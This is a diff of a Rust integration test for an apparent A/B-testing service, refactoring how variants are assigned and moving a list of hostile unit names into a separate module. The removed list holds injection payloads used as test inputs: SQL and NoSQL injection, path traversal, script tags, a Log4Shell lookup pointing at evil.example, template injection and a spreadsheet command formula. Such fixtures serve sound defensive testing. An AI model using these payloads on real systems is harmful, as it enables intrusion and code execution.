@@ -3,7 +3,9 @@
 
 #![expect(clippy::unwrap_used, reason = "a test that cannot be set up is to panic")]
 
-use std::collections::BTreeSet;
+#[path = "injection/names.rs"]
+mod names;
+
 use std::fs;
 
 use bellwether::auth::role::Role;
@@ -11,84 +13,12 @@ use bellwether::store::key::EventKey;
 use bellwether_tests::caller::{launch, path, results, rows};
 use bellwether_tests::cloud::Cloud;
 use bellwether_tests::fleet::Fleet;
-use bellwether_tests::random::Random;
 use bellwether_tests::runtime::project;
+use names::{FIXED, names};
 use serde_json::{Value, json};
 
-const SEED: u64 = 20_261_121;
-/// Random names beside the fixed ones.
-const MANY: usize = 250;
 /// Units in a request.
 const BATCH: usize = 20;
-/// What is a condition, a key, a query or a page elsewhere.
-const FIXED: [&str; 24] = [
-    "attribute_exists(pk)",
-    "attribute_not_exists(#name)",
-    "#name = :value",
-    "#k = :v OR :v = :v",
-    "pk = \"acme/pricing-page/000\" AND begins_with(sk, \"a\")",
-    "SET #count = :by REMOVE pk",
-    "{\"S\":\"acme\"}",
-    "{\"$ne\":null}",
-    "$where",
-    "' OR '1'='1",
-    "\"; DROP TABLE events; --",
-    "acme.com 0 000001",
-    "acme.com 1 demo-booked crm-991",
-    "%20%25%2F%00",
-    "a%20b",
-    "a b",
-    "../../other/pricing-page/000",
-    "other/pricing-page/000",
-    "<script>alert(1)</script>",
-    "<svg onload=alert(1)>",
-    "${jndi:ldap://evil.example/a}",
-    "{{7*7}}",
-    "=cmd|' /C calc'!A0",
-    "\u{202e}moc.emca\u{2066}",
-];
-const PIECES: [&str; 28] = [
-    "#k",
-    ":v",
-    "=",
-    " ",
-    "(",
-    ")",
-    "attribute_exists",
-    "pk",
-    "sk",
-    " AND ",
-    " OR ",
-    "NOT ",
-    "'",
-    "\"",
-    "\\",
-    "{",
-    "}",
-    "$",
-    "%",
-    "%2",
-    "/",
-    "..",
-    "0",
-    "1",
-    "ü",
-    "😀",
-    "\u{2028}",
-    "<b>",
-];
-
-/// Names of units, no two alike.
-fn names() -> Vec<String> {
-    let mut random = Random::new(SEED);
-    let mut all: BTreeSet<String> = FIXED.iter().map(|name| (*name).to_owned()).collect();
-    while all.len() < FIXED.len() + MANY {
-        let pieces = 1 + random.below(8);
-        all.insert((0..pieces).map(|_| *random.pick(&PIECES)).collect());
-    }
-    all.into_iter().collect()
-}
-
 fn sample() -> Value {
     let event = bellwether_tests::fleet::sample("create-test");
     serde_json::from_str(event["body"].as_str().unwrap()).unwrap()
@@ -113,29 +43,15 @@ async fn ask(cloud: &Cloud, fleet: &mut Fleet, function: &str, part: &str, body:
 #[tokio::test(flavor = "multi_thread")]
 async fn units_are_told_apart_and_counted_whatever_they_are_called() {
     let cloud = Cloud::start().await;
-    let mut fleet = Fleet::new(&cloud, &[]);
     let mut test = sample();
     (test["test_id"], test["targeting"]) = (json!("hostile"), json!({}));
     launch(&cloud, &cloud.dynamodb, &test).await;
     let names = names();
-    let mut told = Vec::new();
-    for first in [true, false] {
-        let mut variants = Vec::new();
-        for part in names.chunks(BATCH) {
-            let units: Vec<Value> = part.iter().map(|name| json!({ "unit_id": name })).collect();
-            let told =
-                ask(&cloud, &mut fleet, "assign-variant", "assignments", &json!({ "units": units })).await;
-            for (unit, name) in told.iter().zip(part) {
-                assert_eq!(unit["unit_id"], json!(name), "{unit}");
-                assert!(first || unit["new"] == false, "{unit}");
-                variants.push(unit["variant"].clone());
-            }
-        }
-        told.push(variants);
-        // Another process asks the table and not its memory.
-        fleet = Fleet::new(&cloud, &[]);
-    }
-    assert_eq!(told[0], told[1], "a unit keeps its variant");
+    let first = assigned(&cloud, &names, true).await;
+    // Another process asks the table and not its memory.
+    let again = assigned(&cloud, &names, false).await;
+    assert_eq!(first, again, "a unit keeps its variant");
+    let mut fleet = Fleet::new(&cloud, &[]);
     for part in names.chunks(BATCH) {
         let event = |name: &String| json!({ "unit_id": name, "goal": "demo-booked", "event_id": "e" });
         let events: Vec<Value> = part.iter().map(event).collect();
@@ -152,14 +68,32 @@ async fn units_are_told_apart_and_counted_whatever_they_are_called() {
     assert_eq!(converted, names.len() as u64, "{results}");
 }
 
+/// The units' variants, by a process of its own.
+async fn assigned(cloud: &Cloud, names: &[String], first: bool) -> Vec<Value> {
+    let mut fleet = Fleet::new(cloud, &[]);
+    let mut variants = Vec::new();
+    for part in names.chunks(BATCH) {
+        let units: Vec<Value> = part.iter().map(|name| json!({ "unit_id": name })).collect();
+        let told = ask(cloud, &mut fleet, "assign-variant", "assignments", &json!({ "units": units })).await;
+        for (unit, name) in told.iter().zip(part) {
+            assert_eq!(unit["unit_id"], json!(name), "{unit}");
+            assert!(first || unit["new"] == false, "{unit}");
+            variants.push(unit["variant"].clone());
+        }
+    }
+    assert_eq!(variants.len(), names.len());
+    variants
+}
+
 /// Each unit has its two rows, in partitions of its own test, and there is no other row.
 async fn assert_stored(cloud: &Cloud, names: &[String]) {
     let mut units = Vec::new();
     for (pk, sk, _) in rows(cloud).await {
         assert!(pk.starts_with("acme/hostile/"), "{pk}");
         match EventKey::read(&sk) {
-            Some(EventKey::Assignment(unit, 1)) => units.push(unit.as_str().to_owned()),
-            Some(EventKey::Conversion(unit, ..)) => units.push(unit.as_str().to_owned()),
+            Some(EventKey::Assignment(unit, 1) | EventKey::Conversion(unit, ..)) => {
+                units.push(unit.as_str().to_owned());
+            }
             other => panic!("{sk}: {other:?}"),
         }
     }
